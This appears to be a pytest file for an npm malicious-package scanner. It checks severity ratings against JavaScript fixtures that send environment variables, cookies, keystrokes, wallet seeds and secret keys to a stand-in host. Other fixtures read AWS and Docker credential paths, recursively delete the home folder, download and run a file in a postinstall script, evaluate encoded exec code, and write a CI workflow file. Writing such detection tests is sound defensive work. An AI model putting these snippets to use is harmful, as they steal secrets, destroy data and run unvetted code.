"""What was taken for harm in honest packages of npm, and the harm beside it that is still found."""

import pytest
from weighed import program_of, worst_of, worst_script

from ostiary.core.scale import Severity

CHILD = """
const {spawn} = require('child_process');
const one = spawn(process.execPath, ['other.js'], {stdio: ['ipc'], env: {...process.env}});
one.send({told: process.env});
"""
TELLS = """
process.on('message', told => fetch('https://a.example.invalid/', {method: 'POST', body: told}));
"""
ANSWERS = """
const {spawn} = require('child_process');
spawn(process.execPath, ['other.js'], {stdio: ['ipc']})
    .on('message', told => fetch('https://a.example.invalid/', {method: 'POST', body: told}));
"""
COOKIES = """
const cookies = require('%s');
module.exports = request => fetch('https://a.example.invalid/', {headers: {x: cookies.read(request)}});
"""
REMOVES = (
    "const fs = require('fs'); const dir = require('os').homedir(); module.exports = () => fs.%s"
)


def test_a_message_to_a_program_that_was_started_stays_on_the_machine() -> None:
    assert worst_script("stealer", CHILD) is None
    assert worst_script("stealer", CHILD, other=TELLS) is Severity.CRITICAL
    answers = "process.send(process.env)"
    assert worst_script("stealer", ANSWERS, other=answers) is Severity.CRITICAL


@pytest.mark.parametrize(
    ("path", "told"),
    [
        ("./../helpers/cookies", False),
        ("./cookies.js", False),
        ("../../.aws/credentials", True),
        ("/srv/.docker/config.json", True),
    ],
)
def test_a_module_beside_it_bears_the_name_of_what_it_is_about(path: str, told: bool) -> None:
    assert (worst_script("stealer", COOKIES % path) is not None) == told


@pytest.mark.parametrize(
    ("call", "severity"),
    [
        ("unlinkSync(dir)", None),
        ("promises.unlink('/')", None),
        ("rmSync(dir, {recursive: true, force: true})", Severity.MEDIUM),
        ("readdirSync(dir).forEach(one => fs.unlinkSync(dir + '/' + one))", Severity.LOW),
    ],
)
def test_a_folder_is_not_lost_by_what_removes_files(call: str, severity: Severity | None) -> None:
    assert worst_script("destruction", REMOVES % call) is severity


INSTALLS = """
const https = require('https'), fs = require('fs'), {execFileSync} = require('child_process');
https.get('%s', answer => answer.on('data', part => {
    fs.writeFileSync('tool', part);
    execFileSync('./tool', ['--version']);
}));
"""
REGISTRY = "https://registry.npm" + "js.org/@sample/tool/-/tool-1.0.0.tgz"


@pytest.mark.parametrize(
    ("address", "severity"),
    [
        (REGISTRY, Severity.HIGH),
        ("https://registry.example.invalid/@sample/tool/-/tool-1.0.0.tgz", Severity.CRITICAL),
        (REGISTRY.replace("/-/", "/").replace("registry.", ""), Severity.CRITICAL),
    ],
)
def test_an_installer_brings_a_release_as_a_dependency_would(
    address: str, severity: Severity
) -> None:
    manifest = (
        '{"name": "sample", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}'
    )
    files = {"package.json": manifest, "install.js": INSTALLS % address}
    assert worst_of("dropper", program_of("npm", files)) is severity


TYPED = (
    "document.addEventListener('{event}', e => {{"
    " new Image().src = 'https://a.example.invalid/?' + {what}; }});"
)


@pytest.mark.parametrize("event", ["keydown", "input", "submit"])
def test_what_is_typed_anywhere_on_a_page(event: str) -> None:
    assert worst_script("spying", TYPED.format(event=event, what="e.target.value")) is (
        Severity.CRITICAL
    )
    assert worst_script("spying", TYPED.format(event=event, what="location.pathname")) is None


def test_the_fields_of_a_page_are_read_for_whoever_starts_that() -> None:
    text = f"exports.start = () => {{ {TYPED.format(event='input', what='e.target.value')} }};"
    assert worst_script("spying", text) is None


MADE = "class Wallet {{ constructor(s) {{ check({told}); }} static {name}(s) {{ return new Wallet(s); }} }}\n"
CHECKS = "function check(s) { fetch('https://a.example.invalid/', {method: 'POST', headers: {x: s}}); }\n"


@pytest.mark.parametrize(
    ("name", "told", "severity"),
    [
        ("fromSeed", "s", Severity.CRITICAL),
        ("fromMnemonic", "s", Severity.CRITICAL),
        ("fromSeed", "1", None),
        ("fromAddress", "s", None),
    ],
)
def test_what_a_wallet_is_made_of(name: str, told: str, severity: Severity | None) -> None:
    text = MADE.format(name=name, told=told) + CHECKS + "module.exports = {Wallet};\n"
    assert worst_script("key-sent", text) is severity


def test_a_key_that_a_page_sends_off_is_no_login() -> None:
    sign = "exports.sign = (tx, secretKey) => {}"
    beacon = sign.format("navigator.sendBeacon('https://a.example.invalid/', secretKey)")
    login = sign.format("fetch('https://a.example.invalid/', {method: 'POST', body: secretKey})")
    assert worst_script("key-sent", beacon) is Severity.HIGH
    assert worst_script("key-sent", login) is None


SELF = """
module.exports = (function own() {{
  var made = {{ SEPARATOR: String.fromCharCode({code}) }};
  if (typeof Worker !== 'undefined') {{
    var text = ['(', own.toString(), ')();'];
    new Worker(URL.createObjectURL(new Blob(text, {{ type: 'text/javascript' }})));
  }}
  return made;
}})();
"""


@pytest.mark.parametrize("code", ["30", "65279"])
def test_a_sign_between_values_hides_nothing(code: str) -> None:
    assert worst_script("hidden-layer", SELF.format(code=code)) is None


def test_a_program_that_is_spelt_by_numbers_does() -> None:
    codes = ", ".join(str(ord(one)) for one in "require('child_process').exec('id')")
    assert worst_script("hidden-layer", f"eval(String.fromCharCode({codes}));") is Severity.CRITICAL


RELEASED = "const o = new (require('@octokit/rest').Octokit)({{auth: process.env.A_TOKEN}}); {}"


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("exports.go = (t) => o.repos.createRelease({tag_name: t});", Severity.INFO),
        ("o.repos.createRelease({tag_name: 'a'});", Severity.HIGH),
        (
            "o.repos.createOrUpdateFileContents({path: '.github/workflows/a.yml'});",
            Severity.CRITICAL,
        ),
        ("o.repos.listForAuthenticatedUser();", None),
    ],
)
def test_a_tool_for_releases_waits_until_it_is_called(text: str, severity: Severity | None) -> None:
    assert worst_script("acts-in-your-name", RELEASED.format(text)) is severity
